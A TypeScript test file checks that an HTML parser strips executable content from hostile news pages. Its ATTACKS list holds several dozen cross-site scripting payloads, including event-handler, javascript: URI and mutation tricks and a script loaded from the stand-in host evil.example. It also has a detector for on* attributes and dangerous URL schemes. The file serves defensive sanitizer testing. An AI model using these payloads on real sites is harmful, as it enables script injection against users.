import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { parseHtml } from './parse-html.ts';

const STORY =
  '<p>The council of Low Tarn met on Monday and agreed to mend the mill before the first snow of the year, it said.</p>';

/** Ways to smuggle a call of `alert` into a page, class by class. */
const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<img/src=`x`onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">Mill</a>',
  '<a href="java\nscript:alert(1)">Mill</a>',
  '<a href="&#106;avascript:alert(1)">Mill</a>',
  '<a href=" data:text/html;base64,PHNjcmlwdD4=">Mill</a>',
  '<form action="javascript:alert(1)"><button>Mill</button></form>',
  '<button formaction="javascript:alert(1)">Mill</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>Mill</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background:url(javascript:alert(1))">Mill</div>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<x onclick=alert(1)>Mill</x>',
  '<p id="x" onmouseover="alert(1)">Mill</p>',
  '<marquee onstart=alert(1)>Mill</marquee>',
  '<select><option><script>alert(1)</script></option></select>',
];

const inPage = (attack: string): string =>
  `<html><head><title>Mill</title></head><body><h1>Mill</h1>${STORY}${attack}${STORY}</body></html>`;

const inHead = (attack: string): string => {
  const ld = {
    '@type': 'NewsArticle',
    headline: attack,
    description: attack,
    author: attack,
    url: attack,
    image: attack,
    articleSection: attack,
    keywords: attack,
  };
  const written = attack.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  return (
    `<html lang="${written}"><head><script type="application/ld+json">${JSON.stringify(ld).replaceAll('<', '\\u003c')}</script>` +
    `<meta property="og:image" content="${written}"><link rel="canonical" href="${written}"></head><body><h1>Mill</h1>${STORY}${STORY}</body></html>`
  );
};

/** Every text of a record. */
function stringsIn(value: unknown): readonly string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.values(value).flatMap(stringsIn);
}

/** What a browser would run if somebody wrote the words into a page without escaping them. */
function activeIn(words: string): readonly string[] {
  const { document } = parseHTML(`<html><body><div>${words}</div></body></html>`);
  return [...document.querySelectorAll('body *')].flatMap((element) => {
    const attributes = [...element.attributes].filter(
      ({ name, value }) => /^on/i.test(name) || /^\s*(?:javascript|data|vbscript):/i.test(value),
    );
    const runs = /^(?:script|iframe|object|embed|svg|style|link|meta|base)$/.test(element.localName);
    return runs || attributes.length > 0 ? [element.outerHTML] : [];
  });
}

describe('a record of a hostile page', () => {
  it.each(ATTACKS)('holds nothing that runs: %s', (attack) => {
    for (const html of [inPage(attack), inHead(attack), attack]) {
      const record = parseHtml(html, { origin: { url: 'https://mill.example/' } });
      for (const words of stringsIn(record)) expect(activeIn(words)).toEqual([]);
      const { canonicalUrl, image, original } = record.article;
      for (const address of [canonicalUrl, image?.url, original?.url])
        expect(address ?? 'https://').toMatch(/^https?:/);
    }
  });

  it('shows the code that a page shows, as text', () => {
    const { text } = parseHtml(inPage('<p>Write <code>&lt;script&gt;</code> into the head.</p>'));
    expect(text).toContain('Write <script> into the head.');
  });
});
